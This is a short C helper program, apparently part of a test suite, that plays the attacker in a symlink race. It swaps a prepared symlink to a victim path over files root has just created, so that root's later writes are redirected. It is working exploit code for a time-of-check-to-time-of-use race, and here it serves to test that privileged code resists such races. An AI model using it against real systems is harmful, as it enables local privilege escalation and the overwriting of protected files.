/* MIT licence: see LICENSE. */
/*
 * race_file.c - t-rootpaths.sh's attacker, run as the account that owns
 * the directory:
 *	race_file SECONDS VICTIM NAME...
 * the moment a NAME is a regular file (root just put it there and is
 * about to change it by name), rename a ready link to VICTIM over it.
 * Each NAME is taken once; ends when all are, or after SECONDS.
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	char tmp[64][4096];
	int done[64] = { 0 };
	struct stat st;
	time_t end;
	long n = 0;
	int k, left;

	if (argc < 4 || argc > 64)
		return 2;
	end = time(NULL) + atoi(argv[1]);
	for (k = 3; k < argc; k++) {
		snprintf(tmp[k], sizeof(tmp[k]), "%s.race", argv[k]);
		unlink(tmp[k]);
		if (symlink(argv[2], tmp[k]) < 0)
			return 1;
	}
	for (left = argc - 3; left > 0 && (++n % 1024 || time(NULL) < end);)
		for (k = 3; k < argc; k++)
			if (!done[k] && lstat(argv[k], &st) == 0 &&
			    S_ISREG(st.st_mode) && rename(tmp[k], argv[k]) == 0)
				done[k] = 1, left--;
	for (k = 3; k < argc; k++)
		unlink(tmp[k]);
	return left ? 1 : 0;
}
